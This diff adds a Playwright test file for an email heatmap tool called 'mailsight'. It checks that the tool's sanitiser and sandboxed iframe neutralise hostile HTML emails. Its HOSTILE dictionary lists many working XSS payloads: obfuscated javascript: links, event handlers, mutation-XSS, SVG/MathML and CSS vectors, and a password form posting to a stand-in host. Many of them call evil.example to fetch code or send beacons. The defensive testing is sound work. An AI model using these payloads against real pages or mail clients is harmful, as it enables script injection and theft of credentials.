@@ -1,0 +1,392 @@
+# ruff: noqa: E501 - an attack is easier to follow in one piece
+"""Hostile mails in a real browser: nothing runs, nothing loads, nothing navigates.
+
+Two layers hold by themselves, and the tests take them one by one: what `safe` and `draw` leave of a mail, opened as a
+file with scripts allowed; and the frame, given the mails as they are.
+"""
+
+import json
+import os
+import socket
+import subprocess
+import sys
+import time
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import httpx
+import pytest
+from playwright.sync_api import Browser, Dialog, Frame, Page, Request
+
+from mailsight.heatmap.badges import wholes
+from mailsight.heatmap.drawing import draw, layers
+from mailsight.mail.content import safe
+from mailsight.mail.links import LinkClicks, links
+
+pytestmark = pytest.mark.browser
+
+EVIL = "https://evil.example"
+RUN = (
+    "try{top.document.title='hacked';document.title='hacked';top.document.cookie='hacked=1';alert(1)}catch(e){};"
+    f"new Image().src='{EVIL}/ran'"
+)
+IMAGE = f'<img src="{EVIL}/{{}}" width="30" height="30">'
+
+HOSTILE = {
+    "script": f"<script>{RUN}</script><script src='{EVIL}/x.js'></script><script type=module>{RUN}</script>",
+    "event attributes": f'<body onload="{RUN}" onpageshow="{RUN}" onresize="{RUN}"><img src=x onerror="{RUN}">'
+    f'<details open ontoggle="{RUN}"><summary onclick="{RUN}" onmouseover="{RUN}">Click</summary></details>'
+    f'<input autofocus onfocus="{RUN}"><marquee onstart="{RUN}">m</marquee><b tabindex=0 onfocusin="{RUN}">b</b>'
+    f'<p style="animation:x 1s" onanimationstart="{RUN}">p</p><style>@keyframes x {{ from {{ left: 0 }} }}</style>',
+    "javascript: links": "".join(
+        f'<a href="{scheme}{RUN}">{number}</a> '
+        for number, scheme in enumerate(
+            (
+                "javascript:",
+                " JavaScript:",
+                "java\tscript:",
+                "java&#10;script:",
+                "&#1;javascript:",
+                "javascript&colon;",
+            )
+        )
+    )
+    + f'<a href="data:text/html,<script>{RUN}</script>">d</a><a href="vbscript:msgbox(1)">v</a>',
+    "frames": f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe><iframe src='{EVIL}/frame'></iframe>"
+    f'<iframe src="javascript:{RUN}"></iframe><object data="{EVIL}/o"><embed src="{EVIL}/e"></object>'
+    f"<portal src='{EVIL}/p'></portal><fencedframe src='{EVIL}/f'></fencedframe><applet code='{EVIL}/a'></applet>",
+    "frameset": f"<frameset onload=\"{RUN}\"><frame src='{EVIL}/frame'></frameset>",
+    "meta": f"<meta http-equiv=refresh content='0;url={EVIL}/refresh'><meta http-equiv='set-cookie' content='hacked=1'>"
+    f"<meta http-equiv=Content-Security-Policy content='default-src *; script-src * \\'unsafe-inline\\''>",
+    "base": f"<base href='{EVIL}/' target=_top><img src=picture.png><a href='#x'>in</a><a href='page'>page</a>",
+    "link elements": "".join(
+        f"<link rel='{rel}' href='{EVIL}/{rel}'>"
+        for rel in (
+            "stylesheet",
+            "icon",
+            "preload",
+            "prefetch",
+            "preconnect",
+            "dns-prefetch",
+            "modulepreload",
+            "manifest",
+        )
+    ),
+    "forms": f'<form action="{EVIL}/form" target="_top"><input name="password" type="password">'
+    f'<input type=submit value="Send"><button formaction="javascript:{RUN}">Go</button>'
+    f'<input type="image" src="{EVIL}/submit.png"></form><form id=f action="{EVIL}/f2"></form><button form=f>Out</button>'
+    f'<isindex action="javascript:{RUN}">',
+    "pictures": IMAGE.format("a.png")
+    + f'<img srcset="{EVIL}/b 1x, {EVIL}/c 2x"><picture><source srcset="{EVIL}/d"><img src="{EVIL}/e"></picture>'
+    f'<table background="{EVIL}/f"><tr><td background="{EVIL}/g">x</td></tr></table><body background="{EVIL}/h">'
+    f'<video src="{EVIL}/i" poster="{EVIL}/j" autoplay></video><audio src="{EVIL}/k" autoplay></audio>'
+    f'<img src=x lowsrc="{EVIL}/l" dynsrc="{EVIL}/m" longdesc="{EVIL}/n"><a href="#x" ping="{EVIL}/o" '
+    f'attributionsrc="{EVIL}/p">a</a><track src="{EVIL}/q"><input type=image src="{EVIL}/r">',
+    "style sheets": f"<style>@import '{EVIL}/a'; @im\\70ort url({EVIL}/b); @font-face {{ font-family: x; src: url({EVIL}/c) }}"
+    f"* {{ font-family: x; background: url({EVIL}/d), u\\72l('{EVIL}/e'); cursor: url({EVIL}/f), auto;"
+    f"list-style: url({EVIL}/g); border-image: image-set('{EVIL}/h' 1x) 1; mask: url({EVIL}/i#m);"
+    f"filter: url({EVIL}/j#f); content: url({EVIL}/k); -moz-binding: url({EVIL}/l#x); behavior: url({EVIL}/m);"
+    f"--u: url({EVIL}/n); background-image: var(--u) }} a::after {{ content: url({EVIL}/o) }}</style>"
+    f'<p style="background:url(&quot;{EVIL}/p&quot;);width:expression({RUN})">x <a href="#x">x</a></p>'
+    f'<style>/* </style ><script>{RUN}</script> */</style><style media="all{{}}">x</style>',
+    "svg": f'<svg onload="{RUN}"><script>{RUN}</script><script href="{EVIL}/s.js"/><a xlink:href="javascript:{RUN}">'
+    f'<text y=20>x</text></a><image href="{EVIL}/i"/><use href="{EVIL}/u.svg#x"/><foreignObject>'
+    f'<iframe src="javascript:{RUN}"></iframe></foreignObject><animate onbegin="{RUN}" attributeName=x dur=1s>'
+    f'<a id=a><set attributeName=href to="javascript:{RUN}"/></a><style>@import "{EVIL}/t"</style></svg>'
+    f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN.replace(chr(39), '&quot;')}'/>\">",
+    "math": f'<math href="javascript:{RUN}"><mtext><table><mglyph><style><!--</style><img title="--><img src=1 '
+    f'onerror={RUN}>"></mglyph></table></mtext><maction actiontype="statusline#{EVIL}" xlink:href="javascript:{RUN}">c',
+    "mutations": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript><svg></p><style><a id="</style>'
+    f'<img src=1 onerror={RUN}>"></svg><form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>'
+    f'<xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp><title><a title="</title><img src=x onerror={RUN}>"></title>',
+    "templates": f"<template><script>{RUN}</script><img src={EVIL}/t onerror={RUN}></template><div>"
+    f"<template shadowrootmode=open><script>{RUN}</script><img src={EVIL}/s onerror={RUN}><style>@import '{EVIL}/x'"
+    f"</style><slot></slot></template>in a shadow</div>",
+    "comments": f"<!--[if gte mso 9]><script>{RUN}</script><![endif]--><!--><script>{RUN}</script>--><!-- --!><img src=x "
+    f'onerror="{RUN}"><![CDATA[<script>{RUN}</script>]]><?php <script>{RUN}</script>?><!-- open <p>',
+    "attributes": f'<p title="&quot;><script>{RUN}</script>" class=\'"><img src=x onerror="{RUN}">\'>x</p>'
+    f'<a href=\'https://a.example/"onmouseover="{RUN}"\' title="`onclick={RUN}`"><img alt=\'"><script>{RUN}</script>\'></a>',
+    "names of the document": "<img name=documentElement><form name=body id=body><input name=scrollHeight></form>"
+    "<img name=contentDocument id=fonts><form id=defaultView name=createElement></form><a name=scrollingElement id=head>x</a>",
+    "cover": "<style>* { position: fixed !important; inset: 0; z-index: 2147483647 !important; width: 100vw; height: 100vh }"
+    "html, body { height: 9999vh }</style><div style='position:fixed;inset:-9999px;background:red'>cover</div>"
+    "<dialog open popover=manual id=p>dialog</dialog><button popovertarget=p>top layer</button>",
+    "imitated badges": '<a href="https://a.example/" data-link="0" style="anchor-name:--link-0">real</a>'
+    '<mailsight-badge data-badge="0" data-look="4">999,999</mailsight-badge><b data-badge="0" data-link="0">888</b>'
+    "<style>mailsight-badge { display: none !important; left: 0 !important } [data-badge] { opacity: 0 !important }"
+    "@layer mailsight { mailsight-badge { visibility: hidden !important } } b { anchor-name: --link-0 !important }</style>",
+    "unclosed": f'<style>a {{ color: red }} <a href="https://a.example/">in the style sheet</a><script>{RUN}</script>',
+}
+
+
+@dataclass
+class Watched:
+    """A page, and all that it tried."""
+
+    page: Page
+    origin: str
+    tried: list[str] = field(default_factory=list)
+
+    def __post_init__(self) -> None:
+        self.page.on("request", self._request)
+        self.page.on("dialog", self._dialog)
+        self.page.on("popup", lambda popup: self.tried.append(f"popup {popup.url}"))
+        self.page.on("download", lambda download: self.tried.append(f"download {download.url}"))
+        self.page.on("console", lambda message: self._console(message.type, message.text))
+        self.page.on("pageerror", lambda error: self.tried.append(f"error {error}"))
+
+    def _request(self, request: Request) -> None:
+        if not request.url.startswith((self.origin, "data:", "blob:")):
+            self.tried.append(f"request {request.url}")
+
+    def _dialog(self, dialog: Dialog) -> None:
+        self.tried.append(f"dialog {dialog.message}")
+        dialog.dismiss()
+
+    def _console(self, kind: str, text: str) -> None:
+        if kind == "error" or "evil.example" in text:
+            self.tried.append(f"console {text}")
+
+
+def use(mail: Page | Frame) -> None:
+    """Hovers, focuses and clicks whatever a reader could, by events that scripts would see."""
+    beyond = ":not([inert], a[href^=http], a[href^=http] *)"
+    for element in mail.query_selector_all(
+        f":is(a, button, input, summary, p, b, img, form, [tabindex]){beyond}"
+    ):
+        for event in ("mouseover", "focusin", "click"):
+            element.dispatch_event(event)
+    for button in mail.query_selector_all("button, input[type=submit], a[href^='#']"):
+        if button.is_visible():
+            button.click(force=True, timeout=2000, no_wait_after=True)
+
+
+def drawn(html: str) -> str:
+    found = links(html)
+    clicks = [
+        LinkClicks(link.link_position, link.url, link.label, 5 + link.link_position, 4, 1) for link in found
+    ]
+    return draw(html, clicks)
+
+
+@pytest.mark.parametrize("make", [safe, drawn], ids=["safe", "heatmap"])
+@pytest.mark.parametrize("name", HOSTILE)
+def test_a_hostile_mail_does_nothing_as_a_file_with_scripts_allowed(
+    browser: Browser, tmp_path: Path, name: str, make: type[str]
+) -> None:
+    path = tmp_path / "mail.html"
+    path.write_text(make(HOSTILE[name]), encoding="utf-8")
+    page = browser.new_page()
+    watched = Watched(page, path.as_uri())
+    page.goto(path.as_uri())
+    title = page.title()
+    use(page)
+    page.wait_for_timeout(150)
+    assert watched.tried == []
+    assert page.url.partition("#")[0] == path.as_uri()
+    assert (page.title(), "hacked" in title) == (title, False)
+    assert page.evaluate("[document.scripts.length, document.cookie, frames.length]") == [0, "", 0]
+    page.close()
+
+
+def test_imitated_badges_are_not_taken_for_ours(browser: Browser) -> None:
+    page = browser.new_page()
+    page.set_content(drawn(HOSTILE["imitated badges"]))
+    assert page.eval_on_selector_all("[data-badge]", "badges => badges.map(badge => badge.textContent)") == [
+        "5"
+    ]
+    badge, link = (
+        page.locator(selector).bounding_box() for selector in ("[data-badge='0']", "[data-link='0']")
+    )
+    assert badge is not None
+    assert link is not None
+    assert abs(badge["x"] + badge["width"] - link["x"] - link["width"]) < 10
+    assert page.locator("[data-badge='0']").is_visible()
+    page.close()
+
+
+APP = """
+import json
+from pathlib import Path
+
+import streamlit as st
+
+from mailsight.badges import wholes
+from mailsight.contents import safe
+from mailsight.heatmap import draw, layers
+from mailsight.mail_frame import mail_frame
+
+mails = json.loads(Path("mails.json").read_text())
+html = mails[st.query_params["mail"]]
+html = {"safe": safe, "drawn": lambda html: draw(html, []), "raw": str}[st.query_params["how"]](html)
+
+
+@st.dialog("Preview", width="large")
+def preview():
+    mail_frame(html, key="dialog", width=390, title="The e-mail in a dialog")
+
+
+if st.button("Open"):
+    preview()
+first, second = st.tabs(["First", "Second"])
+with first:
+    mail_frame(html, key="first", title="The e-mail")
+with second:
+    mail_frame(html, key="second", title="The e-mail in a tab")
+st.write("The page goes on")
+"""
+
+
+@pytest.fixture(scope="module")
+def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
+    """The address of a page that shows the mail named in its address in the frame."""
+    folder = tmp_path_factory.mktemp("app")
+    tall = {"tall": '<body style="margin:0"><div style="height:1500px">tall</div>' + "<p>words</p>" * 9}
+    tall["window"] = '<!DOCTYPE html><body style="margin:0"><div style="min-height:100vh">x</div><p>end</p>'
+    tall["quirks"] = "<table><tr><td>x</table>"
+    (folder / "mails.json").write_text(json.dumps(HOSTILE | tall))
+    (folder / "app.py").write_text(APP)
+    with socket.socket() as listener:
+        listener.bind(("127.0.0.1", 0))
+        address = f"http://127.0.0.1:{listener.getsockname()[1]}"
+    options = [
+        f"--server.port={address.rpartition(':')[2]}",
+        "--server.headless=true",
+        "--server.fileWatcherType=none",
+    ]
+    process = subprocess.Popen(
+        [sys.executable, "-m", "streamlit", "run", "app.py", *options, "--browser.gatherUsageStats=false"],
+        cwd=folder,
+        env=os.environ | {"PYTHONPATH": str(Path(__file__).resolve().parent.parent)},
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    )
+    try:
+        for _ in range(300):
+            try:
+                if httpx.get(f"{address}/_stcore/health").is_success:
+                    break
+            except httpx.TransportError:
+                time.sleep(0.1)
+        yield address
+    finally:
+        process.terminate()
+        process.wait()
+
+
+def opened(page: Page, app: str, mail: str, how: str) -> Frame:
+    page.goto(f"{app}/?mail={mail}&how={how}")
+    frame = page.locator('iframe[title="The e-mail"]')
+    frame.wait_for(timeout=30_000)
+    element = frame.element_handle()
+    assert element is not None
+    page.wait_for_function("frame => frame.offsetHeight > 2", arg=element)
+    found = element.content_frame()
+    assert found is not None
+    return found
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_a_hostile_mail_does_nothing_on_the_page(browser: Browser, app: str, name: str) -> None:
+    page = browser.new_page()
+    watched = Watched(page, app)
+    frame = opened(page, app, name, "safe" if len(name) % 2 else "drawn")
+    page.wait_for_timeout(200)
+    before = page.url, page.title(), page.evaluate("document.cookie")
+    assert watched.tried == []
+    use(frame)
+    page.wait_for_timeout(200)
+    # Events that a driver of browsers sends to a frame without scripts make it say so.
+    assert [tried for tried in watched.tried if "Blocked script execution" not in tried] == []
+    assert before == (page.url, page.title(), page.evaluate("document.cookie"))
+    assert frame.url.startswith("blob:")
+    assert page.get_by_text("The page goes on").is_visible()
+    page.close()
+
+
+@pytest.mark.parametrize(
+    "name", ["script", "event attributes", "javascript: links", "svg", "mutations", "templates"]
+)
+def test_the_frame_alone_runs_no_script(browser: Browser, app: str, name: str) -> None:
+    page = browser.new_page()
+    page.route(f"{EVIL}/**", lambda route: route.abort())
+    watched = Watched(page, app)
+    frame = opened(page, app, name, "raw")
+    before = page.title(), page.evaluate("document.cookie")
+    for link in frame.query_selector_all("a:not([href^=data])"):
+        link.dispatch_event("click")
+    page.wait_for_timeout(200)
+    assert [tried for tried in watched.tried if tried.startswith("dialog") or tried.endswith("/ran")] == []
+    assert before == (page.title(), page.evaluate("document.cookie"))
+    page.close()
+
+
+@pytest.mark.parametrize("width", [1440, 390])
+def test_the_frame_is_as_high_as_the_mail(browser: Browser, app: str, width: int) -> None:
+    page = browser.new_page(viewport={"width": width, "height": 800})
+    frame = opened(page, app, "tall", "safe")
+    height = "document.documentElement.scrollHeight - innerHeight"
+    assert frame.evaluate("innerHeight") > 1700
+    assert frame.evaluate(height) <= 0
+    page.get_by_role("tab", name="Second").click()
+    page.locator('iframe[title="The e-mail in a tab"]').wait_for()
+    page.wait_for_timeout(300)
+    hidden_at_first = page.frames[-1]
+    assert hidden_at_first.evaluate("innerHeight") > 1700
+    page.get_by_role("button", name="Open").click()
+    dialog = page.locator('iframe[title="The e-mail in a dialog"]')
+    dialog.wait_for()
+    page.wait_for_timeout(500)
+    box = dialog.bounding_box()
+    assert box is not None
+    assert box["height"] > 1700
+    assert box["width"] <= 392
+    page.close()
+
+
+def test_a_mail_as_high_as_its_window_does_not_grow_for_ever(browser: Browser, app: str) -> None:
+    page = browser.new_page()
+    frame = opened(page, app, "window", "safe")
+    page.wait_for_timeout(500)
+    height = frame.evaluate("innerHeight")
+    page.wait_for_timeout(500)
+    assert frame.evaluate("innerHeight") == height < 400
+    page.close()
+
+
+def test_an_old_mail_is_shown_as_old_mails_are(browser: Browser, app: str) -> None:
+    page = browser.new_page()
+    assert opened(page, app, "quirks", "safe").evaluate("document.compatMode") == "BackCompat"
+    assert opened(page, app, "window", "safe").evaluate("document.compatMode") == "CSS1Compat"
+    page.close()
+
+
+def test_a_rerun_leaves_the_mail_where_it_is(browser: Browser, app: str) -> None:
+    page = browser.new_page()
+    frame = opened(page, app, "tall", "safe")
+    address = frame.url
+    page.get_by_role("button", name="Open").click()
+    page.locator('iframe[title="The e-mail in a dialog"]').wait_for()
+    assert frame.url == address
+    assert page.locator('iframe[title="The e-mail"]').get_attribute("src") == address
+    page.close()
+
+
+def test_the_frame_never_allows_scripts(browser: Browser, app: str) -> None:
+    page = browser.new_page()
+    opened(page, app, "tall", "safe")
+    sandbox = page.locator('iframe[title="The e-mail"]').get_attribute("sandbox") or ""
+    assert sorted(sandbox.split()) == ["allow-popups", "allow-popups-to-escape-sandbox", "allow-same-origin"]
+    page.close()
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_no_mail_brings_badges_of_its_own_to_the_tab(name: str) -> None:
+    html = HOSTILE[name]
+    clicks = [LinkClicks(link.link_position, link.url, link.label, 5, 4, 1) for link in links(html)]
+    made = layers(html, clicks, wholes(clicks))
+    assert "<mailsight-" not in made.html
+    assert "data-badge=" not in made.html
+    assert "data-lit=" not in made.html
+    assert made.html.count("data-link=") - made.html.count('[data-link="') == len(clicks)
